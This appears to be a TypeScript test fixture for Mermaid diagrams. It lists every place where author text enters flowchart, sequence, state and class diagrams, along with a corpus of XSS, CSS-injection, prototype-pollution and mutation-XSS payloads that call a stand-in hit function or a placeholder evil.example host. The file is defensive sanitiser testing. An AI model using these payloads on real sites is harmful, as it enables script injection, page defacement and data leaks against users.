/** Places of mermaid's four kinds of diagrams that take text from an author, and what is tried there. `§` stands for a number. */
export interface DiagramPlace {
  readonly place: string;
  readonly write: (text: string) => string;
}

const line = (text: string): string => text.replace(/\s+/g, " ");

function places(head: string, entries: Readonly<Record<string, (text: string) => string>>): readonly DiagramPlace[] {
  return Object.entries(entries).map(([place, write]) => ({
    place: `${head}: ${place}`,
    write: (text) => `${head}\n${write(line(text))}`,
  }));
}

export const diagramPlaces: readonly DiagramPlace[] = [
  ...places("flowchart LR", {
    label: (text) => `A["${text}"] --> B`,
    "label without quotes": (text) => `A[${text}] --> B`,
    "label in Markdown": (text) => `A["\`**${text}**\`"] --> B`,
    "label of a decision": (text) => `A{"${text}"} --> B("${text}")`,
    "label of an edge": (text) => `A -->|"${text}"| B -- ${text} --> C`,
    "name of an edge": (text) => `A ${text}@--> B`,
    "data of a node": (text) => `A@{ shape: rect, label: "${text}" } --> B`,
    "picture of a node": (text) => `A@{ img: "${text}", label: "x", w: 9, h: 9 } --> B`,
    "icon of a node": (text) => `A@{ icon: "${text}", form: "circle" } --> B`,
    "icon in a label": (text) => `A["fa:fa-${text} x"] --> B`,
    id: (text) => `${text} --> B`,
    subgraph: (text) => `subgraph s ["${text}"]\nA --> B\nend`,
    class: (text) => `A:::${text} --> B\nclass B ${text}`,
    style: (text) => `A --> B\nstyle A fill:${text},stroke:#333`,
    "class definition": (text) => `A:::x --> B\nclassDef x fill:${text};`,
    "name of a class definition": (text) => `A --> B\nclassDef ${text} fill:red`,
    "style of an edge": (text) => `A --> B\nlinkStyle 0 stroke:${text}`,
    address: (text) => `A --> B\nclick A "${text}" "tip" _self`,
    "address, the other way": (text) => `A --> B\nclick A href "${text}" _blank`,
    call: (text) => `A --> B\nclick A call ${text}`,
    callback: (text) => `A --> B\nclick A hit "${text}"`,
    tooltip: (text) => `A --> B\nclick A "https://example.org/" "${text}"`,
    title: (text) => `accTitle: ${text}\nA --> B`,
    description: (text) => `accDescr: ${text}\nA --> B`,
    "long description": (text) => `accDescr { ${text} }\nA --> B`,
    comment: (text) => `%% ${text}\nA --> B`,
    "setting of the look": (text) =>
      `%%{init: {"themeCSS": ${JSON.stringify(text)}, "securityLevel": "loose"}}%%\nA --> B`,
    "setting of the font": (text) => `%%{init: {"fontFamily": ${JSON.stringify(text)}, "secure": []}}%%\nA --> B`,
    "setting of a colour": (text) =>
      `%%{init: {"theme": "base", "themeVariables": {"primaryColor": ${JSON.stringify(text)}}}}%%\nA --> B`,
    "setting of a prototype": (text) =>
      `%%{init: {"__proto__": {"securityLevel": ${JSON.stringify(text)}}}}%%\nA --> B`,
  }),
  ...places("sequenceDiagram", {
    participant: (text) => `participant A as ${text}\nA->>A: x`,
    actor: (text) => `actor A as ${text}\nA->>A: x`,
    id: (text) => `${text}->>B: x`,
    "data of a participant": (text) => `participant A@{ "type": "${text}" }\nA->>A: x`,
    message: (text) => `A->>B: ${text}`,
    note: (text) => `A->>B: x\nNote over A,B: ${text}`,
    loop: (text) => `loop ${text}\nA->>B: x\nend`,
    choice: (text) => `alt ${text}\nA->>B: x\nelse ${text}\nB->>A: x\nend`,
    box: (text) => `box ${text}\nparticipant A\nend\nA->>A: x`,
    background: (text) => `rect ${text}\nA->>B: x\nend`,
    link: (text) => `participant A\nlink A: x @ ${text}\nA->>A: x`,
    "name of a link": (text) => `participant A\nlink A: ${text} @ https://example.org/\nA->>A: x`,
    links: (text) => `participant A\nlinks A: {"x": ${JSON.stringify(text)}}\nA->>A: x`,
    properties: (text) =>
      `participant A\nproperties A: {"class": ${JSON.stringify(text)}, "icon": ${JSON.stringify(text)}}\nA->>A: x`,
    details: (text) => `participant A\ndetails A: ${text}\nA->>A: x`,
    title: (text) => `title: ${text}\nA->>B: x`,
  }),
  ...places("stateDiagram-v2", {
    state: (text) => `state "${text}" as a\n[*] --> a`,
    description: (text) => `a : ${text}\n[*] --> a`,
    transition: (text) => `a --> b : ${text}`,
    note: (text) => `a --> b\nnote right of a : ${text}`,
    "long note": (text) => `a --> b\nnote right of a\n${text}\nend note`,
    "class definition": (text) => `classDef x fill:${text}\na:::x --> b`,
    id: (text) => `${text} --> b`,
    address: (text) => `a --> b\nclick a href "${text}"`,
  }),
  ...places("classDiagram", {
    label: (text) => `class A["${text}"]`,
    member: (text) => `class A {\n+${text} x\n}`,
    method: (text) => `A : ${text}()`,
    annotation: (text) => `class A\n<<${text}>> A`,
    generic: (text) => `class A~${text}~`,
    relation: (text) => `A --> B : ${text}`,
    cardinality: (text) => `A "${text}" --> "1" B`,
    note: (text) => `class A\nnote for A "${text}"`,
    namespace: (text) => `namespace ${text} {\nclass A\n}`,
    style: (text) => `class A\nstyle A fill:${text}`,
    link: (text) => `class A\nlink A "${text}" "tip"`,
    address: (text) => `class A\nclick A href "${text}" "tip"`,
    callback: (text) => `class A\ncallback A "hit" "${text}"\nclick A call hit(§)`,
  }),
  {
    place: "front matter: settings",
    write: (text) =>
      `---\ntitle: ${line(text)}\nconfig:\n  securityLevel: loose\n  themeCSS: ${JSON.stringify(text)}\n---\nflowchart LR\nA --> B`,
  },
  { place: "kind of diagram", write: (text) => `${line(text)}\nA --> B` },
];

export const diagramTexts: readonly string[] = [
  "<img src=x onerror=hit(§)>",
  "<script>hit(§)</script>",
  "</style><script>hit(§)</script>",
  '"><svg onload=hit(§)>',
  "' onmouseover='hit(§)",
  '" onclick="hit(§)',
  "javascript:hit(§)",
  "java\tscript:hit(§)",
  "hit(§)",
  "#lt;img src=x onerror=hit(§)#gt;",
  "#60;img src=x onerror=hit(§)#62;",
  "&lt;img src=x onerror=hit(§)&gt;",
  "$$<img src=x onerror=hit(§)>$$",
  "https://evil.example/§.png",
  "url(https://evil.example/§)",
  "u\\72l(https://evil.example/§)",
  "red;} body,button{display:none!important;position:fixed} x{",
  "red}#app{visibility:hidden}@import 'https://evil.example/§';{",
  "x;a{b} :not(&){background:green !important} c{d}",
  "#f00;position:fixed;inset:0;z-index:9999",
  "![x](https://evil.example/§.png)",
  "[x](javascript:hit(§))",
];

/** Drawings as mermaid might make them one day, if all that stands before the last layer failed. */
export const drawings: readonly string[] = [
  "<script>hit(§)</script>",
  "<a href='javascript:hit(§)'><text>x</text></a>",
  "<a xlink:href='javascript:hit(§)'><rect onclick='hit(§)' width='9' height='9'/></a>",
  "<rect onclick='hit(§)' onload='hit(§)' onfocus='hit(§)' tabindex='0' width='9' height='9'/>",
  "<image href='https://evil.example/§' onerror='hit(§)' width='9' height='9'/>",
  "<use href='https://evil.example/§#x'/>",
  "<rect fill='url(https://evil.example/§#x)' width='9' height='9'/>",
  "<rect style='fill:url(https://evil.example/§#x);mask:url(\"https://evil.example/§\")' width='9' height='9'/>",
  "<rect filter='url(https://evil.example/§#x)' clip-path='url(//evil.example/§#y)' marker-end='url(x.svg#z)' width='9' height='9'/>",
  "<filter id='f'><feImage href='https://evil.example/§'/></filter><rect filter='url(#f)' width='9' height='9'/>",
  "<style>@import 'https://evil.example/§';</style>",
  "<style>@font-face{font-family:f;src:url(https://evil.example/§)}#drawing-1{font-family:f}</style><text>x</text>",
  "<style>body{display:none!important}#app{visibility:hidden}*{color:red}</style>",
  "<style>#drawing-1,body{display:none!important}</style>",
  "<style>#drawing-1 ~ *,#drawing-1 + *{display:none!important}</style>",
  "<style>#drawing-1x,#drawing-1{} button{display:none!important}</style>",
  "<style>#drawing-1 rect{background:u\\72l(https://evil.example/§);fill:url(https://evil.example/§)}</style>",
  "<style>#drawing-1{--x:url(https://evil.example/§);background:var(--x)}</style>",
  "<style>#drawing-1{background:image-set('https://evil.example/§' 1x)}</style>",
  "<style>@media all{button{display:none!important}}@layer x{button{display:none!important}}@scope (body){:scope{display:none}}</style>",
  "<style>#drawing-1{color:red;body &{display:none!important}& ~ *{display:none}}</style>",
  "<style>@keyframes codicon-spin{from{left:0}}</style>",
  "<style>#drawing-1{position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:red}</style>",
  "<foreignObject width='9' height='9'><p style='position:fixed;inset:0;z-index:99999;background:red'>x</p></foreignObject>",
  "<foreignObject width='9' height='9'><img src='x' onerror='hit(§)'/><iframe srcdoc='&lt;script&gt;parent.hit(§)&lt;/script&gt;'></iframe></foreignObject>",
  "<foreignObject><form action='https://evil.example/§'><input name='x'/><button formaction='javascript:hit(§)'>x</button></form></foreignObject>",
  "<foreignObject><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(§)&gt;'/></table></mtext></math></foreignObject>",
  "<animate attributeName='href' values='javascript:hit(§)' onbegin='hit(§)' dur='1s'/><set attributeName='onclick' to='hit(§)'/>",
  "<title><img src=x onerror=hit(§)></title><desc><img src=x onerror=hit(§)></desc>",
  "<metadata><script>hit(§)</script></metadata><switch><foreignObject><script>hit(§)</script></foreignObject></switch>",
];
